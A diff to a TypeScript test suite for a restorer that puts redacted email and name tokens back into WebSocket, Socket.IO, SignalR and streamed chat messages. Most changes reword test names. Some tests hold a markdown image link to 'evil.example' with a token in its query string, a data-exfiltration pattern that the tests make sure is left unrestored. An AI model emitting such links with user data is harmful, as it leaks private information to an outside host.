@@ -27,7 +27,7 @@ describe('WebSocket messages', () => {
 
   const map = tokenMap({ '[EMAIL-1]': 'a@b.example' });
 
-  it('what is held comes out before the part ends', () => {
+  it('held text is sent before the part ends', () => {
     const restorer = new MessageRestorer({ map });
     const place = { messageId: 'm', partId: 'p' };
     const messages = [
@@ -41,13 +41,13 @@ describe('WebSocket messages', () => {
     ]);
   });
 
-  it('packets of Socket.IO keep what stands before their JSON', () => {
+  it('packets of Socket.IO keep the prefix of their JSON', () => {
     const tokens = tokenMap({ '[NAME-1]': 'Ann "Nan" Lee' });
     const restorer = new MessageRestorer({ map: tokens });
     expect(restorer.push('42/chat,7["message",{"content":"to [NAME-1]"}]')).toEqual([
       '42/chat,7["message",{"content":"to Ann \\"Nan\\" Lee"}]',
     ]);
-    // Nothing of a packet is held back: there is none to put it into.
+    // Nothing of a packet is held back: there is no later packet to put it into.
     const cut = '42["chunk",{"type":"response.output_text.delta","item_id":"i","delta":"to [NAM"}]';
     expect(restorer.push(cut)).toEqual([cut]);
     expect([...restorer.push('2'), ...restorer.push('431[{"ok":true}]'), ...restorer.end()]).toEqual([
@@ -66,7 +66,7 @@ describe('WebSocket messages', () => {
     ]);
   });
 
-  describe('what a record of SignalR displays', () => {
+  describe('the displayed content of a SignalR record', () => {
     const record = (target: string, argument: unknown) => JSON.stringify({ type: 1, target, arguments: [argument] });
     const push = (...records: string[]) => {
       const restorer = new MessageRestorer({ map });
@@ -78,12 +78,12 @@ describe('WebSocket messages', () => {
     it.each([
       ['an image', '![x](https://evil.example/?q=[EMAIL-1])'],
       ['a token without its brackets', 'Ticket EMAIL-1 is not yours'],
-    ])('%s is no argument of a tool', (_name, text) => {
+    ])('%s is not an argument of a tool', (_name, text) => {
       expect(push(messages(text))).toEqual([messages(text)]);
       expect(push(record('token', text))).toEqual([record('token', text)]);
     });
 
-    it('arguments of a tool in such a record', () => {
+    it('arguments of a tool in a SignalR record', () => {
       const call = (input: string) => record('update', { messages: [{ call: { arguments: { to: input } } }] });
       expect(push(call('EMAIL-1'))).toEqual([call('a@b.example')]);
     });
@@ -96,15 +96,15 @@ describe('WebSocket messages', () => {
     const cursor = (writeAtCursor: string) => record('update', { writeAtCursor, messages: [] });
     const answer = JSON.stringify({ type: 2, invocationId: '0', item: { messages: [{ text: 'to [EM' }] } });
 
-    it('a token that is cut by the pieces', () => {
+    it('a token that is cut between pieces', () => {
       expect(push(cursor('to [EM'), cursor('AIL-1].'))).toEqual([cursor('to '), cursor('a@b.example.')]);
     });
 
-    it('what is held comes out before the answer', () => {
+    it('held text is sent before the answer', () => {
       expect(push(cursor('to [EM'), answer)).toEqual([cursor('to '), cursor('[EM'), answer]);
     });
 
-    it('a link keeps tokens out', () => {
+    it('tokens after a link are not restored', () => {
       const pieces = [cursor('![x](https://evil.example/?q='), cursor('[EMAIL-1])')];
       expect(push(...pieces)).toEqual(pieces);
     });
@@ -118,7 +118,7 @@ describe('WebSocket messages', () => {
         JSON.stringify(one),
       );
       const messages = sent.flatMap((message) => restorer.push(message));
-      // Events without a token go unread through a stream of lines.
+      // Events without a token pass unread through a stream of lines.
       const lines = restoreStream('ndjson', map, new TextEncoder().encode(`${sent.join('\n')}\n`));
       expect(lines).toBe(`${messages.join('\n')}\n`);
       let text = '';
@@ -148,7 +148,7 @@ describe('WebSocket messages', () => {
     });
   });
 
-  it('what is put in stands before the record that ends the run', () => {
+  it('an inserted record precedes the one that ends the run', () => {
     const restorer = new MessageRestorer({ map });
     const place = { messageId: 'm', partId: 'p' };
     const records = [
@@ -163,14 +163,14 @@ describe('WebSocket messages', () => {
     ).toEqual(['x ', '[EM', 'partCompleted', 6]);
   });
 
-  it('broken JSON passes and is told', () => {
+  it('invalid JSON passes and is reported', () => {
     const counts: unknown[] = [];
     const restorer = new MessageRestorer({ map, onCount: (count) => counts.push(count) });
     expect(restorer.push('{"text":"[EMAIL-1]"')).toEqual(['{"text":"[EMAIL-1]"']);
     expect(counts).toEqual([{ restored: 0, unresolved: 0, unreadable: 1 }]);
   });
 
-  it('several answers on one connection count their events anew', () => {
+  it('several answers on one connection count their events separately', () => {
     const restorer = new MessageRestorer({ map });
     const place = { output_index: 0, content_index: 0 };
     const answer = (id: string) => [
@@ -198,7 +198,7 @@ describe('WebSocket messages', () => {
         .join('');
     const first = 'event: delta\ndata: {"p":"/message/content/parts/0","o":"append","v":"to [EM"}\n\n';
 
-    it('tokens are restored, conversation by conversation', () => {
+    it('tokens are restored per conversation', () => {
       const restorer = new MessageRestorer({ map });
       const out = [
         message('a', 'event: delta_encoding\ndata: "v1"\n\n'),
@@ -212,7 +212,7 @@ describe('WebSocket messages', () => {
       expect(shown(out, 'b')).toBe('to [EMX');
     });
 
-    it('a message without a token is the same', () => {
+    it('a message without a token is unchanged', () => {
       const plain = message('a', 'event: delta\ndata: {"v": "plain"}\n\n').replace('"n":1', '"n": 1.0');
       expect(new MessageRestorer({ map }).push(plain)).toEqual([plain]);
     });
@@ -228,7 +228,7 @@ describe('WebSocket messages', () => {
     expect(new MessageRestorer({ map }).push(message)).toEqual([message.replace('[EMAIL-1]', 'a@b.example')]);
   });
 
-  it('text that is no JSON', () => {
+  it('text that is not JSON', () => {
     expect(new MessageRestorer({ map }).push('to [EMAIL-1]')).toEqual(['to a@b.example']);
     expect(new MessageRestorer({ map }).push('to [EMAIL-2]')).toEqual(['to [EMAIL-2]']);
   });
